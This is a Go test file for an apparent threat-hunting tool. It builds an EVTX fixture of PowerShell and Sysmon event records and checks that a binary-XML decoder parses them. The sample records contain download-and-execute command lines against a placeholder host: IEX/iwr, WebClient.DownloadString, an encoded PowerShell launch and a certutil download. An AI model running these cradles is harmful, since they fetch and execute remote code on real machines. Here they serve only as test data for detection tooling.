package binxml

import (
	"bytes"
	"encoding/binary"
	"flag"
	"hash/crc32"
	"os"
	"path/filepath"
	"testing"

	"github.com/exechunt/exechunt/tables/event"
	"github.com/exechunt/exechunt/tables/event/eventtest"
	"github.com/exechunt/exechunt/tables/source/xmlevent"
)

var updateShapes = flag.Bool("update-shapes", false, "rewrite ../testdata/powershell_shapes.evtx")

// shapesFile is the EVTX fixture of PowerShell and process records whose EventData
// has unnamed <Data> items or empty named ones; the evtx package's tests read it.
const shapesFile = "../testdata/powershell_shapes.evtx"

// shapeItem is one <Data> of a fixture record: unnamed when name is "", a string
// array substitution when values has more than one element.
type shapeItem struct {
	name   string
	values []string
}

type shapeRecord struct {
	provider, channel string
	id                uint16
	data              []shapeItem
}

func unnamed(vals ...string) []shapeItem {
	items := make([]shapeItem, len(vals))
	for i, v := range vals {
		items[i] = shapeItem{values: []string{v}}
	}
	return items
}

// Texts of the fixture records, shared with the evtx package's expectations.
const (
	shapeDetails800 = "\tDetailSequence=1\r\n\tDetailTotal=1\r\n\r\n\tSequenceNumber=15\r\n\r\n\tUserId=CORP\\bob\r\n\tHostName=ConsoleHost\r\n\tHostApplication=powershell.exe -nop -w hidden -c IEX (iwr http://x/a)\r\n\tEngineVersion=5.1\r\n\tPipelineId=3\r\n\tScriptName=\r\n\tCommandLine=IEX (iwr http://x/a)\r\n"
	shapePayload800 = "CommandInvocation(Invoke-Expression): \"Invoke-Expression\"\r\n"
	shapeContext    = "        Severity = Informational\r\n        Host Application = powershell.exe -enc SQBFAFgA\r\n        Command Name = Invoke-WebRequest\r\n        Script Name = \r\n        User = CORP\\bob\r\n"
	shapePayload    = "CommandInvocation(Invoke-WebRequest): \"Invoke-WebRequest\"\r\n"
	shapeScript     = "iex (New-Object Net.WebClient).DownloadString('http://x/a')"
	shapeBlockID    = "0c4e3a1b-2d5f-4a6b-8c7d-9e0f1a2b3c4d"
)

var shapeRecords = []shapeRecord{
	{"PowerShell", "Windows PowerShell", 800, unnamed("IEX (iwr http://x/a)\r\n", shapeDetails800, shapePayload800)},
	{"PowerShell", "Windows PowerShell", 800, []shapeItem{{values: []string{"IEX (iwr http://x/a)\r\n", shapeDetails800, shapePayload800}}}},
	{"Microsoft-Windows-PowerShell", "Microsoft-Windows-PowerShell/Operational", 4104, unnamed("1", "1", shapeScript, shapeBlockID, `C:\a.ps1`)},
	{"Microsoft-Windows-PowerShell", "Microsoft-Windows-PowerShell/Operational", 4103, unnamed(shapeContext, "", shapePayload)},
	{"Microsoft-Windows-PowerShell", "Microsoft-Windows-PowerShell/Operational", 4104, []shapeItem{
		{"MessageNumber", []string{"1"}}, {"MessageTotal", []string{"1"}}, {"ScriptBlockText", []string{shapeScript}},
		{"ScriptBlockId", []string{shapeBlockID}}, {"Path", []string{""}}}},
	{"Microsoft-Windows-Sysmon", "Microsoft-Windows-Sysmon/Operational", 1, []shapeItem{
		{"ProcessId", []string{"4242"}}, {"Image", []string{`C:\Windows\\System32\\certutil.exe`}},
		{"CommandLine", []string{`certutil -urlcache -f http://x/a C:\\a.exe`}}, {"ParentImage", []string{`C:\\Windows\\explorer.exe`}}}},
}

// writeShape writes a templated record (its template defined inline) whose <Data>
// values are string substitutions.
func writeShape(w *chunkWriter, recID uint64, r shapeRecord) int {
	types := []byte{typUint16, typFileTime, typUint64}
	for _, it := range r.data {
		typ := byte(typString)
		if len(it.values) > 1 {
			typ |= typArray
		}
		types = append(types, typ)
	}
	body := func() {
		w.open("Event", false)
		w.closeStart()
		w.open("System", false)
		w.closeStart()
		w.open("Provider", true)
		w.attr("Name")
		w.text(r.provider)
		w.closeEmpty()
		w.substElement("EventID", 0, typUint16)
		w.attrSubst("TimeCreated", "SystemTime", 1, typFileTime, false)
		w.substElement("EventRecordID", 2, typUint64)
		w.textElement("Channel", r.channel)
		w.textElement("Computer", "WS01.corp.example")
		w.end() // System
		w.open("EventData", false)
		w.closeStart()
		for i, it := range r.data {
			idx := 3 + i
			if it.name == "" {
				w.open("Data", false)
				w.closeStart()
				w.optSubst(idx, types[idx])
				w.end()
			} else {
				w.dataElement(it.name, func() { w.optSubst(idx, types[idx]) })
			}
		}
		w.end() // EventData
		w.end() // Event
	}
	le := func(v uint64, n int) []byte { return binary.LittleEndian.AppendUint64(nil, v)[:n] }
	vals := [][]byte{le(uint64(r.id), 2), le(133500000000000000+recID*10_000_000, 8), le(recID, 8)}
	for _, it := range r.data {
		var b []byte
		for _, v := range it.values {
			b = append(b, utf16le(v)...)
			if len(it.values) > 1 {
				b = append(b, 0, 0) // array items end with NUL
			}
		}
		vals = append(vals, b)
	}
	return w.record(recID, func() {
		w.fragmentHeader()
		defOff := 0 // each record defines its own template
		w.templateInstance(uint32(recID), &defOff, body, vals, types)
		w.eof()
	})
}

// shapesChunk builds the fixture's one chunk with valid checksums.
func shapesChunk() (chunk []byte, offs []int) {
	w := newChunkWriter()
	for i, r := range shapeRecords {
		offs = append(offs, writeShape(w, uint64(i+1), r))
	}
	chunk = w.chunk(offs[len(offs)-1])
	binary.LittleEndian.PutUint32(chunk[52:], crc32.ChecksumIEEE(chunk[chunkHeaderSize:len(w.b)]))
	c := crc32.NewIEEE()
	c.Write(chunk[:120])
	c.Write(chunk[128:chunkHeaderSize])
	binary.LittleEndian.PutUint32(chunk[124:], c.Sum32())
	return chunk, offs
}

// TestShapesFixture checks that the committed fixture is what shapesChunk writes
// (rewrite it with -update-shapes) and that the decoder maps its records to the
// typed fields the PowerShell shapes should give.
func TestShapesFixture(t *testing.T) {
	chunk, offs := shapesChunk()
	file := make([]byte, 0x1000, 0x1000+len(chunk))
	copy(file, "ElfFile\x00")
	binary.LittleEndian.PutUint64(file[24:], uint64(len(offs)+1)) // next record number
	binary.LittleEndian.PutUint32(file[32:], 128)                 // header size
	binary.LittleEndian.PutUint16(file[36:], 1)                   // minor version
	binary.LittleEndian.PutUint16(file[38:], 3)                   // major version
	binary.LittleEndian.PutUint16(file[40:], 0x1000)              // header block size
	binary.LittleEndian.PutUint16(file[42:], 1)                   // chunk count
	binary.LittleEndian.PutUint32(file[124:], crc32.ChecksumIEEE(file[:120]))
	file = append(file, chunk...)
	if *updateShapes {
		if err := os.WriteFile(filepath.FromSlash(shapesFile), file, 0o644); err != nil {
			t.Fatal(err)
		}
	}
	got, err := os.ReadFile(filepath.FromSlash(shapesFile))
	if err != nil || !bytes.Equal(got, file) {
		t.Fatalf("%s is stale or missing (err=%v): run go test -run TestShapesFixture -update-shapes", shapesFile, err)
	}
	var events []event.Event
	for i, off := range offs {
		el, err := ParseRecord(chunk, off)
		if err != nil {
			t.Fatalf("record %d: %v", i+1, err)
		}
		var rec event.Record
		xmlevent.ToRecord(el, &rec)
		events = append(events, event.Normalize(&rec, false))
	}
	eventtest.Check(t, events, eventtest.EVTXShapes())
}
